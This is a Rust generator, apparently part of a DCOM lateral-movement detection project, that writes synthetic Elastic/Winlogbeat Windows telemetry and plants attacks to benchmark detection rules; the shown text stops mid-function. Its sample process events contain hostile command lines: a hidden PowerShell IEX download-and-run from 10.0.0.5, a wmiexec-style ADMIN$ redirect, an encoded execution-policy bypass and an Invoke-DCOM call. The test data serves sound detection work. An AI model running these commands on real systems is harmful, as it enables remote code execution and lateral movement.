//! Deterministic generator of a realistic Windows endpoint stream as NDJSON, for throughput
//! benchmarks of the seed rule and of the correlation profiles.
//!
//! `cargo run --release -p dcom-detect-core --example gen_events -- BYTES [SEED] [--mix realistic|dense|process]`
//! (BYTES accepts K, M and G suffixes). The same arguments always give the same file. The
//! mix and the exact number of alerts each rule must raise on the output are printed to
//! standard error (`expected alerts: seed N, D2 N, D2L N, D3 N`).
//!
//! # The mix (per 1,000 events, `--mix realistic`, the default)
//! Modelled on an Elastic Defend Windows fleet whose Security logs Winlogbeat ships to the
//! same cluster, 24 hosts (three of them servers):
//! - 120 process starts (Elastic Defend): the near-miss distribution of the seed benchmark
//!   (about 0.1 % of starts match the seed rule; 8 % are `svchost.exe -k DcomLaunch` children,
//!   among them benign `-Embedding` / `/automation` starts of COM servers of the D2 list:
//!   Excel, Word, `explorer.exe /factory`; a third of the rest are children of the host's
//!   `explorer.exe`, the D3 anchor shape), pids from a small pool, so they are reused;
//! - 100 process ends;
//! - 200 network events: 130 outbound connections (TCP and UDP), 42 inbound TCP connections
//!   to non-COM services (System on 445, svchost on 135, lsass, spoolsv, sqlservr, w3wp),
//!   4 inbound from loopback to a COM server or explorer (a third of the benign COM starts
//!   also get one), 4 inbound to `explorer.exe` on a port below 49152 (decoys for D3), 20 DNS
//!   lookups;
//! - 30 logons (Security 4624, Winlogbeat ECS): 20 network (type 3) from remote addresses,
//!   3 network from loopback, 5 interactive (type 2), 2 remote interactive (type 10);
//! - 550 other events: 280 file, 170 registry, 100 library loads.
//!
//! `--mix dense` keeps only the kinds the correlation reads (starts, network events, logons,
//! in the same proportions: 120 : 200 : 30), the worst case for the correlation profiles;
//! `--mix process` writes only process starts (the seed benchmark's corpus before the
//! correlation profiles).
//!
//! Times advance by 20 ms per event on average (50 events/s over the fleet), each stamped
//! with up to ±1.5 s of jitter (so input is out of time order, within the engines' allowed
//! lateness). Every 20,000 events one attack is planted, in turn: MMC20 (Winlogbeat Sysmon:
//! a network logon, `svchost -> mmc.exe -Embedding` in that logon session, an inbound
//! connection to it from the attacker, its `cmd.exe` child: D2, D2L and a seed alert),
//! Excel (Elastic Defend: `svchost -> EXCEL.EXE /automation -Embedding` and an inbound
//! connection to it: D2) and ShellWindows (an inbound connection to the host's explorer on a
//! high port and an explorer child 2 s later: D3; no other explorer child on that host within
//! 20 s). Nothing else can correlate: benign inbound connections go to other processes,
//! benign COM starts carry no logon id of a network logon. The bench fails when a scan's
//! counts differ from the expected ones.
use std::io::{BufWriter, Write};

struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        self.0
    }
    fn below(&mut self, n: u64) -> u64 {
        self.next() % n
    }
    fn pick<'a>(&mut self, items: &[&'a str]) -> &'a str {
        items[self.below(items.len() as u64) as usize]
    }
    fn hex(&mut self, len: usize) -> String {
        (0..len).map(|_| char::from(b"0123456789abcdef"[self.below(16) as usize])).collect()
    }
    fn guid(&mut self) -> String {
        format!("{{{}-{}-{}-{}-{}}}", self.hex(8), self.hex(4), self.hex(4), self.hex(4), self.hex(12))
    }
    /// A Windows-style pid (a multiple of 4) from a small pool, so pids are reused.
    fn pid(&mut self) -> u64 {
        4 * (100 + self.below(4000))
    }
}

const USERS: &[&str] = &["jdoe", "asmith", "svc_backup", "mlopez", "tchen", "adm_kwright", "rpatel", "okim"];
const HOST_COUNT: usize = 24;
const SERVER_COUNT: usize = 3;
const PLANT_EVERY: u64 = 20_000;
/// Milliseconds from the Unix epoch to 2024-05-01T00:00:00Z.
const BASE_MS: i64 = 1_714_521_600_000;

/// An address and port.
type Address<'a> = (&'a str, u16);

/// (parent executable, parent command line, child executable, child command line)
type Process = (&'static str, &'static str, &'static str, &'static str);

const ORDINARY: &[Process] = &[
    (
        r"C:\Windows\explorer.exe",
        r"C:\Windows\Explorer.EXE",
        r"C:\Program Files\Google\Chrome\Application\chrome.exe",
        r#""C:\Program Files\Google\Chrome\Application\chrome.exe" --type=renderer --lang=en-US --enable-auto-reload"#,
    ),
    (
        r"C:\Windows\System32\services.exe",
        r"C:\Windows\system32\services.exe",
        r"C:\Windows\System32\svchost.exe",
        r"C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule",
    ),
    (
        r"C:\Windows\explorer.exe",
        r"C:\Windows\Explorer.EXE",
        r"C:\Windows\System32\notepad.exe",
        r#""C:\Windows\system32\notepad.exe" C:\Users\jdoe\Desktop\todo.txt"#,
    ),
    (
        r"C:\Windows\System32\cmd.exe",
        r#"cmd.exe /c "build.bat""#,
        r"C:\Program Files\Git\cmd\git.exe",
        r"git fetch --all --prune",
    ),
    (
        r"C:\Program Files\Microsoft VS Code\Code.exe",
        r#""C:\Program Files\Microsoft VS Code\Code.exe""#,
        r"C:\Windows\System32\conhost.exe",
        r"\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1",
    ),
    (
        r"C:\Windows\System32\svchost.exe",
        r"C:\Windows\system32\svchost.exe -k netsvcs -p -s Winmgmt",
        r"C:\Windows\System32\wbem\WmiApSrv.exe",
        r"C:\Windows\system32\wbem\WmiApSrv.exe",
    ),
    (
        r"C:\Windows\System32\taskhostw.exe",
        r"taskhostw.exe {222A245B-E637-4AE9-A93F-A59CA119A75E}",
        r"C:\Windows\System32\sc.exe",
        r"sc.exe query wuauserv",
    ),
    (
        r"C:\Windows\explorer.exe",
        r"C:\Windows\Explorer.EXE",
        r"C:\Windows\System32\cmd.exe",
        r#""C:\Windows\system32\cmd.exe""#,
    ),
];
const DCOM_LAUNCH: &[Process] = &[
    (
        r"C:\Windows\System32\svchost.exe",
        r"C:\Windows\system32\svchost.exe -k DcomLaunch -p",
        r"C:\Windows\System32\wbem\WmiPrvSE.exe",
        r"C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding",
    ),
    (
        r"C:\Windows\System32\svchost.exe",
        r"C:\Windows\system32\svchost.exe -k DcomLaunch -p",
        r"C:\Windows\System32\RuntimeBroker.exe",
        r"C:\Windows\System32\RuntimeBroker.exe -Embedding",
    ),
    (
        r"C:\Windows\System32\svchost.exe",
        r"C:\Windows\system32\svchost.exe -k DcomLaunch -p",
        r"C:\Windows\System32\dllhost.exe",
        r"C:\Windows\system32\DllHost.exe /Processid:{AB8902B4-09CA-4BB6-B78D-A8F59079A8D5}",
    ),
    // Benign COM server starts of the D2 list (anchor candidates that must raise nothing).
    (
        r"C:\Windows\System32\svchost.exe",
        r"C:\Windows\system32\svchost.exe -k DcomLaunch -p",
        r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE",
        r#""C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE" -Embedding"#,
    ),
    (
        r"C:\Windows\System32\svchost.exe",
        r"C:\Windows\system32\svchost.exe -k DcomLaunch -p",
        r"C:\Windows\explorer.exe",
        r"C:\Windows\explorer.exe /factory,{75dff2b7-6936-4c06-a8bb-676a7b00b24b} -Embedding",
    ),
];
const EXEC_POLICY: &[Process] = &[
    (
        r"C:\Windows\System32\cmd.exe",
        r#"cmd.exe /c "deploy.cmd""#,
        r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
        r"powershell.exe -ExecutionPolicy Bypass -File C:\ProgramData\agent\update.ps1",
    ),
    (
        r"C:\Windows\System32\svchost.exe",
        r"C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule",
        r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
        r"powershell.exe -NonI -W Hidden -NoP -Exec Bypass -Enc SQBFAFgA",
    ),
];
const BOTH_HALVES: &[Process] = &[(
    r"C:\Windows\System32\svchost.exe",
    r"C:\Windows\system32\svchost.exe -k DcomLaunch -p",
    r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
    r"powershell.exe -ExecutionPolicy Restricted -Command Get-Date",
)];
const OFFICE_STARTED: &[Process] = &[
    (
        r"C:\Windows\System32\svchost.exe",
        r"C:\Windows\system32\svchost.exe -k DcomLaunch -p",
        r"C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE",
        r#""C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE" /automation -Embedding"#,
    ),
    (
        r"C:\Windows\explorer.exe",
        r"C:\Windows\Explorer.EXE",
        r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE",
        r#""C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE" /n "C:\Users\jdoe\Documents\q3.docx""#,
    ),
];
const MATCHING: &[Process] = &[
    (
        r"C:\Windows\System32\mmc.exe",
        r"C:\Windows\system32\mmc.exe -Embedding",
        r"C:\Windows\System32\cmd.exe",
        r#""C:\Windows\System32\cmd.exe" /Q /c whoami 1> \\127.0.0.1\ADMIN$\__1556656511.61 2>&1"#,
    ),
    (
        r"C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE",
        r#""EXCEL.EXE" /automation -Embedding"#,
        r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
        r"powershell.exe -nop -w hidden -c IEX(iwr http://10.0.0.5/a)",
    ),
    (
        r"C:\Windows\explorer.exe",
        r"C:\Windows\Explorer.EXE",
        r"C:\Windows\System32\dcomcnfg.exe",
        r#""C:\Windows\system32\dcomcnfg.exe""#,
    ),
    (
        r"C:\Windows\System32\cmd.exe",
        r"cmd.exe",
        r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
        r"powershell.exe -ExecutionPolicy Bypass -File Invoke-DCOM.ps1 -ComputerName ws-fin-0042",
    ),
];

fn json_str(s: &str) -> String {
    let mut out = String::with_capacity(s.len() + 2);
    out.push('"');
    for c in s.chars() {
        match c {
            '"' => out.push_str("\\\""),
            '\\' => out.push_str("\\\\"),
            c => out.push(c),
        }
    }
    out.push('"');
    out
}

fn json_args(command_line: &str) -> (String, usize) {
    let args: Vec<String> = command_line.split(' ').map(json_str).collect();
    (args.join(","), args.len())
}

fn basename(path: &str) -> &str {
    path.rsplit(['\\', '/']).next().unwrap_or(path)
}

/// RFC 3339 UTC with milliseconds, `ms` after the Unix epoch (within May 2024).
fn stamp(ms: i64) -> String {
    let rel = ms - BASE_MS;
    assert!((0..30 * 86_400_000).contains(&rel), "the generated stream stays within May 2024");
    let (day, rest) = (rel / 86_400_000, rel % 86_400_000);
    let (h, m, s, milli) = (rest / 3_600_000, rest / 60_000 % 60, rest / 1000 % 60, rest % 1000);
    format!("2024-05-{:02}T{h:02}:{m:02}:{s:02}.{milli:03}Z", day + 1)
}

struct Host {
    name: String,
    id: String,
    ip: String,
    server: bool,
    explorer_entity: String,
    explorer_pid: u64,
    /// The interactive user's logon session.
    session: u64,
    /// Benign explorer children are not generated on this host before this time (a planted
    /// ShellWindows attack's window).
    quiet_until: i64,
}

#[derive(Clone, Copy, PartialEq, Eq)]
enum Mix {
    Realistic,
    Dense,
    Process,
}

#[derive(Clone, Copy, Debug)]
enum Kind {
    Start,
    End,
    Outbound,
    Inbound,
    InboundLoopback,
    ExplorerLowPort,
    Dns,
    NetworkLogon,
    LoopbackLogon,
    Interactive,
    RemoteInteractive,
    File,
    Registry,
    Library,
}

/// Events per 1,000 of each kind (`--mix realistic`; see the module documentation).
const MIX: [(Kind, u64); 14] = [
    (Kind::Start, 120),
    (Kind::End, 100),
    (Kind::Outbound, 130),
    (Kind::Inbound, 42),
    (Kind::InboundLoopback, 4),
    (Kind::ExplorerLowPort, 4),
    (Kind::Dns, 20),
    (Kind::NetworkLogon, 20),
    (Kind::LoopbackLogon, 3),
    (Kind::Interactive, 5),
    (Kind::RemoteInteractive, 2),
    (Kind::File, 280),
    (Kind::Registry, 170),
    (Kind::Library, 100),
];

impl Kind {
    fn in_mix(self, mix: Mix) -> bool {
        match mix {
            Mix::Realistic => true,
            Mix::Dense => !matches!(self, Kind::End | Kind::File | Kind::Registry | Kind::Library),
            Mix::Process => matches!(self, Kind::Start),
        }
    }
}

/// Inbound TCP services that are no COM server: (executable, local port).
const SERVICES: &[(&str, u16)] = &[
    (r"System", 445),
    (r"C:\Windows\System32\svchost.exe", 135),
    (r"C:\Windows\System32\svchost.exe", 3389),
    (r"C:\Windows\System32\lsass.exe", 49667),
    (r"C:\Windows\System32\spoolsv.exe", 49669),
    (r"C:\Windows\System32\svchost.exe", 5985),
];
const SERVER_SERVICES: &[(&str, u16)] = &[
    (r"C:\Program Files\Microsoft SQL Server\MSSQL15.MSSQLSERVER\MSSQL\Binn\sqlservr.exe", 1433),
    (r"C:\Windows\System32\inetsrv\w3wp.exe", 443),
];
const OUTBOUND: &[(&str, &str, u16, &str)] = &[
    (r"C:\Program Files\Google\Chrome\Application\chrome.exe", "142.250.185.78", 443, "tcp"),
    (r"C:\Windows\System32\svchost.exe", "10.20.0.10", 53, "udp"),
    (r"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE", "52.97.146.162", 443, "tcp"),
    (r"C:\Windows\System32\svchost.exe", "10.20.0.11", 88, "tcp"),
    (r"C:\Program Files\Microsoft VS Code\Code.exe", "13.107.42.18", 443, "tcp"),
    (r"C:\Windows\System32\lsass.exe", "10.20.0.11", 389, "tcp"),
];
const FILES: &[(&str, &str)] = &[
    (
        r"C:\Program Files\Google\Chrome\Application\chrome.exe",
        r"C:\Users\{user}\AppData\Local\Google\Chrome\User Data\Default\Cache\Cache_Data\f_0{n}",
    ),
    (
        r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE",
        r"C:\Users\{user}\AppData\Roaming\Microsoft\Word\~WRL{n}.tmp",
    ),
    (r"C:\Windows\System32\svchost.exe", r"C:\Windows\Prefetch\CONHOST.EXE-0C6456FB.pf"),
    (r"C:\Windows\System32\SearchIndexer.exe", r"C:\ProgramData\Microsoft\Search\Data\Applications\Windows\tmp{n}.edb"),
];
const REGISTRY: &[(&str, &str)] = &[
    (
        r"C:\Windows\explorer.exe",
        r"HKEY_USERS\S-1-5-21-1004336348-1177238915-682003330-{n}\Software\Microsoft\Windows\CurrentVersion\Explorer\RecentDocs\.docx",
    ),
    (
        r"C:\Windows\System32\svchost.exe",
        r"HKLM\SYSTEM\ControlSet001\Services\bam\State\UserSettings\S-1-5-21-1004336348-1177238915-682003330-{n}",
    ),
    (
        r"C:\Program Files\Google\Chrome\Application\chrome.exe",
        r"HKEY_USERS\S-1-5-21-1004336348-1177238915-682003330-{n}\Software\Google\Chrome\BLBeacon\state",
    ),
];
const LIBRARIES: &[(&str, &str)] = &[
    (r"C:\Program Files\Google\Chrome\Application\chrome.exe", r"C:\Windows\System32\dwrite.dll"),
    (r"C:\Windows\System32\svchost.exe", r"C:\Windows\System32\wbem\fastprox.dll"),
    (
        r"C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE",
        r"C:\Program Files\Common Files\microsoft shared\ClickToRun\AppvIsvSubsystems64.dll",
    ),
    (r"C:\Windows\explorer.exe", r"C:\Windows\System32\Windows.Storage.dll"),
];
const ATTACKERS: &[&str] = &["10.20.7.66", "172.16.40.9", "10.20.3.201"];

/// What a scan of the output must raise.
#[derive(Default)]
struct Expected {
    seed: u64,
    d2: u64,
    d2l: u64,
    d3: u64,
}

struct Gen<W: Write> {
    rng: Rng,
    out: W,
    mix: Mix,
    hosts: Vec<Host>,
    /// The clock, in milliseconds since the Unix epoch.
    now: i64,
    seq: u64,
    written: u64,
    expected: Expected,
    counts: Vec<u64>,
}

impl<W: Write> Gen<W> {
    fn emit(&mut self, line: String) {
        self.out.write_all(line.as_bytes()).expect("stdout");
        self.out.write_all(b"\n").expect("stdout");
        self.written += line.len() as u64 + 1;
        self.seq += 1;
    }

    /// The clock with up to ±1.5 s of jitter.
    fn jittered(&mut self) -> i64 {
        self.now + self.rng.below(3001) as i64 - 1500
    }

    fn host_fields(&mut self, h: usize) -> String {
        let host = &self.hosts[h];
        format!(
            concat!(
                r#""host":{{"architecture":"x86_64","hostname":"{name}","id":"c3b0a1f2-7d4e-4b1a-9c8d-{id}","ip":["{ip}"],"name":"{name}","#,
                r#""os":{{"family":"windows","full":"{full}","kernel":"22H2 (10.0.19045.4291)","name":"Windows","platform":"windows","type":"windows","version":"22H2"}}}}"#
            ),
            name = host.name,
            id = host.id,
            ip = host.ip,
            full = if host.server { "Windows Server 2022 Datacenter" } else { "Windows 10 Enterprise 22H2" },
        )
    }

    fn endpoint_header(&mut self, dataset: &str, time: i64, action: &str, category: &str, kind: &str) -> String {
        let t = stamp(time);
        format!(
            concat!(
                r#"{{"@timestamp":"{t}","agent":{{"id":"8a4f2b1e-55b0-4c8e-9f8e-{agent}","type":"endpoint","version":"8.13.2"}},"#,
                r#""data_stream":{{"dataset":"endpoint.events.{dataset}","namespace":"default","type":"logs"}},"ecs":{{"version":"8.10.0"}},"#,
                r#""event":{{"action":"{action}","category":["{category}"],"created":"{t}","dataset":"endpoint.events.{dataset}","id":"{id}","kind":"event","module":"endpoint","outcome":"success","sequence":{seq},"type":[{kind}]}},"#
            ),
            t = t,
            agent = self.rng.hex(12),
            dataset = dataset,
            action = action,
            category = category,
            id = self.rng.hex(24),
            seq = self.seq,
            kind = kind,
        )
    }

    fn user_fields(&mut self) -> String {
        let user = self.rng.pick(USERS);
        format!(
            r#""user":{{"domain":"CORP","id":"S-1-5-21-1004336348-1177238915-682003330-{uid}","name":"{user}"}}"#,
            uid = 1000 + self.rng.below(9000),
        )
    }

    /// An Elastic Defend process start (`end`: a process end instead).
    #[allow(clippy::too_many_arguments)]
    fn process(
        &mut self,
        h: usize,
        time: i64,
        (pexe, pcl, exe, cl): Process,
        entity: &str,
        pid: u64,
        parent_entity: &str,
        ppid: u64,
        end: bool,
    ) -> String {
        let (action, kind) = if end { ("end", r#""end""#) } else { ("start", r#""start""#) };
        let header = self.endpoint_header("process", time, action, "process", kind);
        let host = self.host_fields(h);
        let user = self.user_fields();
        let (args, nargs) = json_args(cl);
        let (pargs, npargs) = json_args(pcl);
        format!(
            concat!(
                r#"{header}{host},"message":"Endpoint process event","#,
                r#""process":{{"Ext":{{"ancestry":["{anc1}","{anc2}"],"code_signature":[{{"exists":true,"status":"trusted","subject_name":"Microsoft Windows","trusted":true}}],"token":{{"elevation":false,"integrity_level_name":"medium"}}}},"#,
                r#""args":[{args}],"args_count":{nargs},"command_line":{cl},"entity_id":"{eid}","executable":{exe},"hash":{{"md5":"{md5}","sha1":"{sha1}","sha256":"{sha256}"}},"name":{name},"#,
                r#""parent":{{"args":[{pargs}],"args_count":{npargs},"command_line":{pcl},"entity_id":"{peid}","executable":{pexe},"name":{pname},"pid":{ppid}}},"#,
                r#""pid":{pid},"working_directory":"C:\\Windows\\system32\\"}},{user}}}"#
            ),
            header = header,
            host = host,
            anc1 = parent_entity,
            anc2 = self.rng.hex(64),
            args = args,
            nargs = nargs,
            cl = json_str(cl),
            eid = entity,
            exe = json_str(exe),
            md5 = self.rng.hex(32),
            sha1 = self.rng.hex(40),
            sha256 = self.rng.hex(64),
            name = json_str(basename(exe)),
            pargs = pargs,
            npargs = npargs,
            pcl = json_str(pcl),
            peid = parent_entity,
            pexe = json_str(pexe),
            pname = json_str(basename(pexe)),
            ppid = ppid,
            pid = pid,
            user = user,
        )
    }

    /// An Elastic Defend network event: `incoming` (source = remote, destination = local)
    /// or `outgoing`.
    #[allow(clippy::too_many_arguments)]
    fn network(
        &mut self,
        h: usize,
        time: i64,
        exe: &str,
        entity: &str,
        pid: u64,
        incoming: bool,
        transport: &str,
        (src, sport): (&str, u16),
        (dst, dport): (&str, u16),
    ) -> String {
        let (action, direction) =
            if incoming { ("connection_accepted", "incoming") } else { ("connection_attempted", "outgoing") };
        let header = self.endpoint_header("network", time, action, "network", r#""start""#);
        let host = self.host_fields(h);
        let user = self.user_fields();
        format!(
            concat!(
                r#"{header}"destination":{{"address":"{dst}","ip":"{dst}","port":{dport}}},{host},"message":"Endpoint network event","#,
                r#""network":{{"direction":"{direction}","transport":"{transport}","type":"ipv4"}},"#,
                r#""process":{{"Ext":{{"ancestry":["{anc}"]}},"entity_id":"{entity}","executable":{exe},"name":{name},"pid":{pid}}},"#,
                r#""source":{{"address":"{src}","ip":"{src}","port":{sport}}},{user}}}"#
            ),
            header = header,
            dst = dst,
            dport = dport,
            host = host,
            direction = direction,
            transport = transport,
            anc = self.rng.hex(64),
            entity = entity,
            exe = json_str(exe),
            name = json_str(basename(exe)),
            pid = pid,
            src = src,
            sport = sport,
            user = user,
        )
    }

    /// A Security 4624 as Winlogbeat's security module writes it (ECS authentication).
    fn logon(&mut self, h: usize, time: i64, logon_type: (u8, &str), logon_id: u64, source: &str) -> String {
        let t = stamp(time);
        let host = self.host_fields(h);
        let user = self.rng.pick(USERS);
        let (n, name) = logon_type;
        format!(
            concat!(
                r#"{{"@timestamp":"{t}","agent":{{"id":"5d1c9e0a-2f3b-4c6d-8e7f-{agent}","type":"winlogbeat","version":"8.13.2"}},"ecs":{{"version":"8.0.0"}},"#,
                r#""event":{{"action":"logged-in","category":["authentication"],"code":"4624","created":"{t}","kind":"event","module":"security","outcome":"success","provider":"Microsoft-Windows-Security-Auditing","type":["start"]}},"#,
                r#"{host},"log":{{"level":"information"}},"message":"An account was successfully logged on.","#,
                r#""related":{{"ip":["{src}"],"user":["{user}"]}},"source":{{"domain":"{user}-PC","ip":"{src}","port":{sport}}},"#,
                r#""user":{{"domain":"CORP","id":"S-1-5-21-1004336348-1177238915-682003330-{uid}","name":"{user}"}},"#,
                r#""winlog":{{"channel":"Security","computer_name":"{computer}.corp.example","event_data":{{"AuthenticationPackageName":"Kerberos","ImpersonationLevel":"%%1833","KeyLength":"0","LogonGuid":"{guid}","LogonProcessName":"Kerberos","LogonType":"{n}","TargetDomainName":"CORP","TargetLogonId":"0x{id:x}","TargetUserName":"{user}","TargetUserSid":"S-1-5-21-1004336348-1177238915-682003330-{uid}"}},"#,
                r#""event_id":"4624","keywords":["Audit Success"],"logon":{{"id":"0x{id:x}","type":"{name}"}},"opcode":"Info","process":{{"pid":{lsass},"thread":{{"id":{tid}}}}},"provider_guid":"{{54849625-5478-4994-a5ba-3e3b0328c30d}}","provider_name":"Microsoft-Windows-Security-Auditing","record_id":{record},"task":"Logon"}}}}"#
            ),
            t = t,
            agent = self.rng.hex(12),
            host = host,
            src = source,
            user = user,
            sport = if source.starts_with("127.") || source == "::1" { 0 } else { 49152 + self.rng.below(16000) },
            uid = 1000 + self.rng.below(9000),
            computer = self.hosts[h].name,
            guid = self.rng.guid(),
            n = n,
            id = logon_id,
            name = name,
            lsass = 700 + 4 * self.rng.below(50),
            tid = 4 * self.rng.below(5000),
            record = self.seq,
        )
    }

    /// A Sysmon event as Winlogbeat's sysmon module writes it (ECS): a process start
    /// (`Ok`) or an inbound TCP connection (`Err`: remote and local ends).
    #[allow(clippy::too_many_arguments)]
    fn sysmon(
        &mut self,
        h: usize,
        time: i64,
        (pexe, pcl, exe, cl): Process,
        guid: &str,
        pid: u64,
        parent_guid: &str,
        logon_id: u64,
        connection: Option<(Address, Address)>,
    ) -> String {
        let t = stamp(time);
        let host = self.host_fields(h);
        let computer = self.hosts[h].name.clone();
        match connection {
            None => {
                let (args, nargs) = json_args(cl);
                let (pargs, _) = json_args(pcl);
                format!(
                    concat!(
                        r#"{{"@timestamp":"{t}","agent":{{"type":"winlogbeat","version":"8.13.2"}},"ecs":{{"version":"8.0.0"}},"#,
                        r#""event":{{"category":["process"],"code":"1","created":"{t}","kind":"event","module":"sysmon","provider":"Microsoft-Windows-Sysmon","type":["start"]}},{host},"#,
                        r#""process":{{"args":[{args}],"args_count":{nargs},"command_line":{cl},"entity_id":"{guid}","executable":{exe},"name":{name},"pid":{pid},"#,
                        r#""parent":{{"args":[{pargs}],"command_line":{pcl},"entity_id":"{pguid}","executable":{pexe},"name":{pname},"pid":{ppid}}}}},"#,
                        r#""user":{{"domain":"CORP","name":"{user}"}},"#,
                        r#""winlog":{{"channel":"Microsoft-Windows-Sysmon/Operational","computer_name":"{computer}.corp.example","event_id":"1","logon":{{"id":"0x{logon:x}"}},"provider_name":"Microsoft-Windows-Sysmon","record_id":{record}}}}}"#
                    ),
                    t = t,
                    host = host,
                    args = args,
                    nargs = nargs,
                    cl = json_str(cl),
                    guid = guid,
                    exe = json_str(exe),
                    name = json_str(basename(exe)),
                    pid = pid,
                    pargs = pargs,
                    pcl = json_str(pcl),
                    pguid = parent_guid,
                    pexe = json_str(pexe),
                    pname = json_str(basename(pexe)),
                    ppid = self.rng.pid(),
                    user = self.rng.pick(USERS),
                    computer = computer,
                    logon = logon_id,
                    record = self.seq,
                )
            }
            Some(((rip, rport), (lip, lport))) => format!(
                concat!(
                    r#"{{"@timestamp":"{t}","agent":{{"type":"winlogbeat","version":"8.13.2"}},"destination":{{"ip":"{lip}","port":{lport}}},"ecs":{{"version":"8.0.0"}},"#,
                    r#""event":{{"category":["network"],"code":"3","created":"{t}","kind":"event","module":"sysmon","provider":"Microsoft-Windows-Sysmon","type":["connection","start","allowed"]}},{host},"#,
                    r#""network":{{"direction":"ingress","protocol":"epmap","transport":"tcp","type":"ipv4"}},"#,
                    r#""process":{{"entity_id":"{guid}","executable":{exe},"name":{name},"pid":{pid}}},"source":{{"ip":"{rip}","port":{rport}}},"#,
                    r#""winlog":{{"channel":"Microsoft-Windows-Sysmon/Operational","computer_name":"{computer}.corp.example","event_id":"3","provider_name":"Microsoft-Windows-Sysmon","record_id":{record}}}}}"#
                ),
                t = t,
                lip = lip,
                lport = lport,
                host = host,
                guid = guid,
                exe = json_str(exe),
                name = json_str(basename(exe)),
                pid = pid,
                rip = rip,
                rport = rport,
                computer = computer,
                record = self.seq,
            ),
        }
    }

    /// A file, registry or library event of Elastic Defend.
    fn other(&mut self, h: usize, time: i64, kind: Kind) -> String {
        let (dataset, category, action, kinds, table) = match kind {
            Kind::File => ("file", "file", "overwrite", r#""change""#, FILES),
            Kind::Registry => ("registry", "registry", "modification", r#""change""#, REGISTRY),
            _ => ("library", "library", "load", r#""info""#, LIBRARIES),
        };
        let (exe, path) = table[self.rng.below(table.len() as u64) as usize];
        let user = self.rng.pick(USERS);
        let path = path.replace("{user}", user).replace("{n}", &self.rng.below(100_000).to_string());
        let header = self.endpoint_header(dataset, time, action, category, kinds);
        let host = self.host_fields(h);
        let user = self.user_fields();
        let object = match kind {
            Kind::File => format!(
                r#""file":{{"extension":"tmp","name":{},"path":{},"size":{}}},"#,
                json_str(basename(&path)),
                json_str(&path),
                self.rng.below(1 << 20)
            ),
            Kind::Registry => format!(
                r#""registry":{{"data":{{"strings":["{}"],"type":"REG_BINARY"}},"hive":"HKU","key":{},"path":{},"value":"state"}},"#,
                self.rng.hex(32),
                json_str(&path[path.find('\\').map_or(0, |i| i + 1)..]),
                json_str(&path)
            ),
            _ => format!(
                r#""dll":{{"code_signature":{{"exists":true,"status":"trusted","subject_name":"Microsoft Windows","trusted":true}},"hash":{{"sha256":"{}"}},"name":{},"path":{}}},"#,
                self.rng.hex(64),
                json_str(basename(&path)),
                json_str(&path)
            ),
        };
        format!(
            r#"{header}{object}{host},"message":"Endpoint {dataset} event","process":{{"entity_id":"{eid}","executable":{exe},"name":{name},"pid":{pid}}},{user}}}"#,
            eid = self.rng.hex(64),
            exe = json_str(exe),
            name = json_str(basename(exe)),
            pid = self.rng.pid(),
        )
    }

    fn pick_kind(&mut self) -> Kind {
        let total: u64 = MIX.iter().filter(|(k, _)| k.in_mix(self.mix)).map(|(_, n)| n).sum();
        let mut roll = self.rng.below(total);
        for (kind, n) in MIX {
            if kind.in_mix(self.mix) {
                if roll < n {
                    return kind;
                }
                roll -= n;
            }
        }
        unreachable!("the mix sums to its total")
    }

    fn start(&mut self, h: usize, time: i64) {
        let roll = self.rng.below(10_000);
        let table = match roll {
            0..=9 => MATCHING,
            10..=59 => OFFICE_STARTED,
            60..=109 => BOTH_HALVES,
            110..=309 => EXEC_POLICY,
            310..=1109 => DCOM_LAUNCH,
            _ => ORDINARY,
        };
        let mut process = table[self.rng.below(table.len() as u64) as usize];
        let explorer_child = basename(process.0).eq_ignore_ascii_case("explorer.exe");
        if explorer_child && time < self.hosts[h].quiet_until + 2000 {
            // A planted ShellWindows attack's window: no other child of this explorer.
            process = ORDINARY[1];
        }
        if std::ptr::eq(table, MATCHING) {
            self.expected.seed += 1;
        }
        let entity = self.rng.hex(64);
        let pid = self.rng.pid();
        let (parent_entity, ppid) = if basename(process.0).eq_ignore_ascii_case("explorer.exe") {
            (self.hosts[h].explorer_entity.clone(), self.hosts[h].explorer_pid)
        } else {
            (self.rng.hex(64), self.rng.pid())
        };
        let line = self.process(h, time, process, &entity, pid, &parent_entity, ppid, false);
        self.emit(line);
        let com_server = basename(process.0).eq_ignore_ascii_case("svchost.exe")
            && ["excel.exe", "winword.exe", "explorer.exe"].iter().any(|s| basename(process.2).eq_ignore_ascii_case(s));
        if com_server && self.rng.below(3) == 0 {
            // Local automation of the benign COM server: a loopback connection to it.
            let port = 49152 + self.rng.below(16000) as u16;
            let line = self.network(
                h,
                time + 400,
                process.2,
                &entity,
                pid,
                true,
                "tcp",
                ("127.0.0.1", port),
                ("127.0.0.1", 49700),
            );
            self.emit(line);
        }
    }

    fn event(&mut self) {
        let h = self.rng.below(HOST_COUNT as u64) as usize;
        let time = self.jittered();
        let ip = self.hosts[h].ip.clone();
        let kind = self.pick_kind();
        self.counts[kind as usize] += 1;
        let line = match kind {
            Kind::Start => return self.start(h, time),
            Kind::End => {
                let process = ORDINARY[self.rng.below(ORDINARY.len() as u64) as usize];
                let (entity, pid, pentity, ppid) = (self.rng.hex(64), self.rng.pid(), self.rng.hex(64), self.rng.pid());
                self.process(h, time, process, &entity, pid, &pentity, ppid, true)
            }
            Kind::Outbound => {
